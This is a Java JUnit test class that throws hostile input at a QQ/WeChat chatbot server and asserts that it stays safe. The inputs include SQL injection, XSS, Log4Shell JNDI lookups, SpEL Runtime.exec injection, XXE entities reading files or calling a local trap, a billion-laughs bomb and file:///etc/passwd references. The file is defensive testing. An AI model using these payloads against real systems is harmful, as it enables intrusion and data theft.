package org.qingsheng.bot.house;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.qingsheng.adapters.CleanText;
import org.qingsheng.adapters.onebot.fake.FakeChat;
import org.qingsheng.adapters.onebot.fake.FakeOneBot;
import org.qingsheng.adapters.onebot.fake.Posted;
import org.qingsheng.adapters.wechat.fake.FakeAccount;
import org.qingsheng.adapters.wechat.fake.FakeAccount.Mode;
import org.qingsheng.adapters.wechat.fake.FakeMessage;
import org.qingsheng.adapters.wechat.fake.FakeWeChatPlatform;
import org.qingsheng.bot.people.Role;

@DisplayName("恶意输入 · hostile input, over real connections")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@Timeout(120)
class HostileInputTest {
  private static final String LOAN = "创业担保贷款个人最高能贷多少";
  private static final String OPENID = "oQNZS_user0001";
  private static final String FRIEND = "2750193846";
  private static final String MARK = "暗号九七三一";
  private static final Duration GOOD_ANSWER = Duration.ofSeconds(2);
  private static final Duration SOON = Duration.ofSeconds(30);
  private static final ObjectMapper JSON = new ObjectMapper();

  private final WalkingClock clock = WalkingClock.atNine();
  private final FakeAccount account = FakeAccount.in(Mode.PLAIN);
  private final AtomicInteger users = new AtomicInteger(90_000);
  private Path canary;
  private Trap trap;
  private FakeWeChatPlatform platform;
  private CapturedLogs logs;
  private RunningServer running;
  private FakeOneBot qq;
  private FakeChat group;

  /** Listens where an attack would call; counts who comes. */
  private static final class Trap implements AutoCloseable {
    final AtomicInteger visits = new AtomicInteger();
    private final ServerSocket socket;

    Trap() throws IOException {
      socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
      Thread.ofVirtual().name("trap").start(this::listen);
    }

    private void listen() {
      while (!socket.isClosed()) {
        try (var visitor = socket.accept()) {
          assertThat(visitor.isConnected()).isTrue();
          visits.incrementAndGet();
        } catch (SocketException _) {
          return;
        } catch (IOException e) {
          throw new AssertionError("trap", e);
        }
      }
    }

    int port() {
      return socket.getLocalPort();
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  @BeforeAll
  void start(@TempDir Path folder) throws IOException {
    trap = new Trap();
    canary = Files.writeString(folder.resolve("canary.txt"), "canary-file-content-5521");
    platform = new FakeWeChatPlatform(account, clock);
    logs =
        new CapturedLogs(
            Set.of(
                RunningServer.ONEBOT_TOKEN,
                RunningServer.ADMIN_PASSWORD,
                RunningServer.STAFF_PASSWORD,
                account.secret(),
                account.token(),
                account.aesKey(),
                platform.currentToken(),
                OPENID,
                FRIEND,
                MARK));
    running =
        RunningServer.withWeChat(
            folder.resolve("server"), clock, account, platform.apiBase(), true);
    running.hire("jia", Role.CADRE);
    qq = running.account("10001").connect();
    group = qq.group("881100");
    replyTo(group.asks("1", LOAN));
  }

  @AfterAll
  void end() throws IOException {
    qq.close();
    running.close();
    platform.close();
    logs.close();
    trap.close();
  }

  // ---- what people write ------------------------------------------------------------------------

  Stream<String> texts() {
    return Stream.of(
        "*:* AND ((((创业",
        "/(a+)+$/ 创业担保",
        "question:* OR entry_id:[* TO *] ~ ^99 \"",
        "' OR 1=1; DROP TABLE item; -- " + MARK,
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "[CQ:at,qq=all] [CQ:image,file=file:///etc/passwd] 创业贷款",
        "&#91;CQ:at,qq=all&#93;",
        "${jndi:ldap://127.0.0.1:" + trap.port() + "/a} %n%s %1$999999s",
        "{{7*7}} ${7*7} #{T(java.lang.Runtime).getRuntime().exec('id')}",
        "\u202e反着写的字\u202c \u2066x\u2069 创\u200b业\u200d贷\ufeff款",
        "第一行\r\n第二行\u2028第三行\u001b[31m红色\u0007",
        "👨‍👩‍👧‍👦𠮷野家" + "e\u0301".repeat(2_000),
        " \u3000".repeat(10_000) + "创业",
        "a b ".repeat(5_000),
        "问".repeat(60_000),
        "长".repeat(349_000) + MARK);
  }

  @ParameterizedTest(name = "{index}")
  @MethodSource("texts")
  @Order(1)
  @DisplayName("怪话照原样记下、答一次，不执行、不点名别人，下一句正常话两秒内得到答复")
  void carries_any_text_as_plain_text(String text) {
    var user = Integer.toString(users.incrementAndGet());
    var asked = group.asks(user, text);

    var reply = replyTo(asked);
    assertOnlyNames(reply, user);
    assertThat(reply.text()).doesNotContain("<script", "{{49", "49 49");
    running.rests();
    assertThat(qq.repliesTo(asked)).allSatisfy(each -> assertOnlyNames(each, user));
    assertThat(qq.repliesTo(asked).size()).isBetween(1, 2);
    assertThat(running.texts("SELECT text FROM heard WHERE asker = '" + user + "'"))
        .containsExactly(CleanText.of(text).strip());
    assertGoodMessageIsAnswered();
  }

  @Test
  @Order(2)
  @DisplayName("昵称和群名片里的脚本、CQ 码、空字符不进答复，也不点名任何人")
  void keeps_hostile_names_out_of_replies() {
    for (var name :
        List.of("[CQ:at,qq=all]", "<script>alert(1)</script>", "${jndi:x}", "\u202e\u0000", "")) {
      var user = Integer.toString(users.incrementAndGet());
      var id = 7_000_000 + users.get();
      var event = event(id, user, LOAN);
      ((ObjectNode) event.path("sender")).put("nickname", name).put("card", name);

      send(event.toString());

      var reply = qq.awaitSent(said -> said.quotes().equals(Optional.of("" + id)), SOON);
      assertOnlyNames(reply, user);
      assertThat(reply.text()).doesNotContain("CQ:", "<script", "jndi");
    }
  }

  @Test
  @Order(2)
  @DisplayName("空字符和落单的代理项换成替代符，其余原样记下，照样答复")
  void replaces_what_no_database_can_carry() {
    var user = Integer.toString(users.incrementAndGet());
    var id = 7_000_000 + users.get();
    var frame =
        event(id, user, "空#字#符").toString().replaceFirst("空#字#符\"}}", "空\\\\u0000字\\\\ud800符\"}}");

    send(frame);

    qq.awaitSent(said -> said.quotes().equals(Optional.of("" + id)), SOON);
    running.rests();
    assertThat(running.texts("SELECT text FROM heard WHERE asker = '" + user + "'"))
        .containsExactly("空\ufffd字\ufffd符");
  }

  @Test
  @Order(3)
  @DisplayName("团干答复里写了 CQ 码和标签，也只是文字")
  void sends_a_cadres_markup_as_plain_text() {
    var user = Integer.toString(users.incrementAndGet());
    var asked = group.asks(user, "转人工 答复里能不能带符号");
    replyTo(asked);
    running.rests();
    var number = running.texts("SELECT number FROM item WHERE asker = '" + user + "'").getFirst();

    try (var cadre = running.signsIn("jia", RunningServer.STAFF_PASSWORD)) {
      cadre.post("/api/v1/tickets/" + number + "/claim", Map.of()).ok();
      cadre
          .post(
              "/api/v1/tickets/" + number + "/answer",
              Map.of("text", "[CQ:at,qq=all]<b>可以带</b>[CQ:image,file=file:///etc/passwd]"))
          .ok();
    }

    var answer = qq.awaitSent(said -> said.text().contains("可以带"), SOON);
    assertOnlyNames(answer, user);
    assertThat(answer.text()).contains("[CQ:at,qq=all]<b>可以带</b>");
  }

  /** Every segment of a message is text, a quote, or the asker's own name. */
  private static void assertOnlyNames(Posted said, String asker) {
    StreamSupport.stream(said.segments().spliterator(), false)
        .forEach(segment -> {
          assertThat(segment.path("type").asText()).isIn("text", "reply", "at");
          if (segment.path("type").asText().equals("at")) {
            assertThat(segment.path("data").path("qq").asText()).isEqualTo(asker);
          }
        });
  }

  // ---- what is not a message at all -------------------------------------------------------------

  Stream<String> frames() {
    var deep = "[".repeat(100_000);
    return Stream.of(
        "{",
        "null",
        "42",
        "\"文字\"",
        "[]",
        "{\"a\":1e999}",
        deep,
        "{\"post_type\":\"message\"}",
        "{\"post_type\":\"message\",\"post_type\":\"notice\"}",
        event(1, "5", LOAN).put("message_id", (String) null).toString(),
        event(2, "5", LOAN).put("message", (String) null).toString(),
        event(3, "5", LOAN).put("message", 7).toString(),
        event(4, "5", LOAN).put("group_id", "9223372036854775808").toString(),
        event(5, "5", LOAN).put("sender", "谁").toString(),
        event(6, "5", LOAN).set("message", JSON.createArrayNode().addNull().add("x")).toString(),
        event(7, "5", LOAN).put("user_id", -1).toString());
  }

  @ParameterizedTest(name = "{index}")
  @MethodSource("frames")
  @Order(4)
  @DisplayName("不像样的 OneBot 帧不伤人：下一句正常话两秒内得到答复")
  void survives_malformed_frames(String frame) {
    send(frame);

    if (!qq.isConnected()) {
      qq.connect();
    }
    assertGoodMessageIsAnswered();
  }

  Stream<Map.Entry<String, Integer>> bodies() {
    var file = canary.toUri();
    var web = "http://127.0.0.1:" + trap.port() + "/x";
    var text = FakeMessage.text(account, OPENID, clock.instant(), LOAN).xml();
    var bodies = new LinkedHashMap<String, Integer>();
    bodies.put("", 400);
    bodies.put("不是 XML", 400);
    bodies.put("<xml><ToUserName>", 400);
    bodies.put("{\"json\":true}", 400);
    bodies.put(
        "<!DOCTYPE xml [<!ENTITY x SYSTEM \""
            + file
            + "\">]>"
            + text.replace("<![CDATA[" + LOAN + "]]>", "&x;"),
        400);
    bodies.put("<!DOCTYPE xml [<!ENTITY % p SYSTEM \"" + web + "\"> %p;]>" + text, 400);
    bodies.put("<!DOCTYPE xml SYSTEM \"" + web + "\">" + text, 400);
    bodies.put(
        "<!DOCTYPE lolz [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
            + text.replace("<![CDATA[" + LOAN + "]]>", "&d;"),
        400);
    bodies.put("<xml>" + "<a>".repeat(9_000) + "</xml>", 400);
    bodies.put(text.replace("<![CDATA[" + LOAN + "]]>", "&#xD800;"), 400);
    bodies.put(text.replace("<![CDATA[" + LOAN + "]]>", "&#0;"), 400);
    bodies.put(text.replace(LOAN, "长".repeat(349_000)), 413);
    return bodies.entrySet().stream();
  }

  @ParameterizedTest(name = "{index}")
  @MethodSource("bodies")
  @Order(5)
  @DisplayName("签名对而内容坏的公众号请求：400 或 413，不读文件、不外连、不记一条")
  void refuses_malformed_xml(Map.Entry<String, Integer> body) {
    var before = running.count("SELECT count(*) FROM heard");

    var answer = post(body.getKey());

    assertThat(answer.statusCode()).isEqualTo(body.getValue());
    assertThat(answer.body()).doesNotContain("canary-file-content");
    assertThat(running.count("SELECT count(*) FROM heard")).isEqualTo(before);
    assertThat(trap.visits).hasValue(0);
  }

  @Test
  @Order(6)
  @DisplayName("坏请求之后，公众号下一句正常话照样当场答复")
  void answers_wechat_after_all_that() {
    var answer = post(FakeMessage.text(account, OPENID, clock.instant(), LOAN).xml());

    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.body()).contains("30万元");
  }

  @Test
  @Order(7)
  @DisplayName("签名错、发给别的号的公众号请求：403")
  void refuses_foreign_callers() {
    var sender = platform.sender();
    var callback = running.at("/channels/wechat-main");
    var message = FakeMessage.text(account, OPENID, clock.instant(), LOAN);
    var foreign =
        new FakeMessage(
            OPENID, "1", message.xml().replace(account.originalId(), "gh_000000000000"));

    var wrong = soon(sender.send(sender.request(callback, message).replacing("nonce=", "nonce=1")));
    var other = soon(sender.send(sender.request(callback, foreign)));

    assertThat(wrong.statusCode()).isEqualTo(403);
    assertThat(other.statusCode()).isEqualTo(403);
  }

  @Test
  @Order(8)
  @DisplayName("OneBot 令牌错或没有：握手就拒绝")
  void refuses_wrong_tokens() {
    var address = URI.create("ws://127.0.0.1:" + running.server.port());
    for (var header : List.of("Bearer wrong", "", RunningServer.ONEBOT_TOKEN + "x")) {
      var headers = new LinkedHashMap<String, String>();
      headers.put("X-Self-ID", "10002");
      if (!header.isEmpty()) {
        headers.put("Authorization", header);
      }
      try (var stranger = running.account("10002")) {
        assertThat(stranger.open(address.resolve("/channels/qq-groups"), headers, true))
            .isIn(401, 403);
      }
    }
    assertGoodMessageIsAnswered();
  }

  @Test
  @Order(9)
  @DisplayName("接口收到坏 JSON、超大内容、不存在的地址：说得清的错误，不出 500")
  void refuses_bad_requests_of_the_api() {
    try (var client = running.signsIn("jia", RunningServer.STAFF_PASSWORD)) {
      for (var body :
          List.of("", "{", "null", "[1]", "\"x\"", "[".repeat(100_000), "{\"text\":7}")) {
        var answer =
            client.postRaw(
                "/api/v1/tickets/QS-261120-0001/answer", body.getBytes(StandardCharsets.UTF_8));
        assertThat(answer.status())
            .as(body.substring(0, Math.min(9, body.length())))
            .isBetween(400, 422);
        assertThat(answer.json().path("error").path("message").asText()).isNotBlank();
      }
      assertThat(client.postRaw("/api/v1/login", new byte[2_000_000]).status()).isEqualTo(413);
      assertThat(client.get("/api/v1/items/%00%ff").status()).isBetween(400, 404);
      assertThat(client.get("/api/v1/items?limit=x").status()).isEqualTo(422);
    }
  }

  @Test
  @Order(100)
  @DisplayName("埋下的令牌、密钥、密码、提问和账号，在 TRACE 日志、错误页和指标里一处也没有")
  void shows_planted_secrets_nowhere() {
    platform.invalidateToken();
    catchUpWithAFriend();
    try (var client = new ApiClient(running)) {
      var pages = new StringBuilder();
      for (var path :
          List.of(
              "/metrics",
              "/health/live",
              "/health/ready",
              "/nowhere",
              "/console",
              "/console/channels",
              "/channels/qq-groups",
              "/channels/wechat-main?signature=" + account.token(),
              "/api/v1/openapi.json",
              "/")) {
        pages.append(client.get(path).body());
      }
      pages.append(
          client
              .post("/api/v1/login", Map.of("login", "admin", "password", "wrong-password-1"))
              .body());
      assertThat(pages)
          .doesNotContain(
              RunningServer.ONEBOT_TOKEN,
              RunningServer.ADMIN_PASSWORD,
              account.secret(),
              account.aesKey(),
              MARK);
    }
    try (var admin = running.signsIn("admin", RunningServer.ADMIN_PASSWORD)) {
      assertThat(admin.get("/api/v1/items").body()).doesNotContain(OPENID);
    }
    running.rests();
    assertThat(running.house().auditor.reconcile().faults()).isEmpty();
    assertThat(logs.lines()).isGreaterThan(100);
    assertThat(logs.hits()).isEmpty();
  }

  /** Everything an adapter might tell its log about a private talk: said, missed, caught up. */
  private void catchUpWithAFriend() {
    try (var other = running.account("10003").connect()) {
      var friend = other.friend(FRIEND);
      friend.says(FRIEND, "转人工 " + MARK);
      other.await(() -> friend.heard().size() == 1, SOON);
      other.drop();
      var missed = friend.says(FRIEND, LOAN);
      other.connect();
      other.await(() -> friend.heard().size() == 2, SOON);
      other.recall(missed);
    }
  }

  // ---- small ------------------------------------------------------------------------------------

  private ObjectNode event(long id, String user, String text) {
    var event =
        JSON.createObjectNode()
            .put("time", clock.instant().getEpochSecond())
            .put("self_id", 10_001)
            .put("post_type", "message")
            .put("message_type", "group")
            .put("sub_type", "normal")
            .put("message_id", id)
            .put("user_id", Long.parseLong(user))
            .put("group_id", 881_100)
            .put("raw_message", text);
    var message = event.putArray("message");
    message.addObject().put("type", "at").putObject("data").put("qq", "10001");
    message.addObject().put("type", "text").putObject("data").put("text", text);
    event.putObject("sender").put("user_id", Long.parseLong(user)).put("nickname", "同学");
    return event;
  }

  private void send(String frame) {
    soon(qq.sendsRaw(frame));
  }

  private HttpResponse<String> post(String xml) {
    var sender = platform.sender();
    var request =
        sender.request(
            running.at("/channels/wechat-main"), OPENID, xml, clock.instant().getEpochSecond());
    return soon(sender.send(request));
  }

  private void assertGoodMessageIsAnswered() {
    var good = group.asks(Integer.toString(users.incrementAndGet()), LOAN);
    qq.await(() -> !qq.repliesTo(good).isEmpty(), GOOD_ANSWER);
    assertThat(qq.repliesTo(good).getFirst().text()).contains("30万元");
  }

  private Posted replyTo(Posted asked) {
    qq.await(() -> !qq.repliesTo(asked).isEmpty(), SOON);
    return qq.repliesTo(asked).getFirst();
  }

  private static <T> T soon(CompletableFuture<T> future) {
    return future.orTimeout(30, TimeUnit.SECONDS).join();
  }
}
